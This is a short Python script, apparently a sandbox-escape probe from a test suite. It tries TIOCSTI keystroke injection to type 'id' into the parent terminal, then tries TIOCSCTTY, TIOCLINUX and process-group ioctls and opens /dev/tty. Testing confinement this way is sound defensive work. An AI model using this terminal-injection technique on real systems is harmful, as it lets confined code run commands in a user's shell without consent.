"""Types into the terminal of whoever started it: TIOCSTI, TIOCSCTTY, TIOCLINUX."""
import fcntl
from aims import attempt, scale

for descriptor in range(4):
    for letter in b"id\n":
        attempt(fcntl.ioctl, descriptor, 0x5412, bytes([letter]))
    attempt(fcntl.ioctl, descriptor, 0x540E, 1)
    attempt(fcntl.ioctl, descriptor, 0x541C, b"\x03")
    attempt(fcntl.ioctl, descriptor, 0x540F, bytes(4))
attempt(open, "/dev/tty", "w")
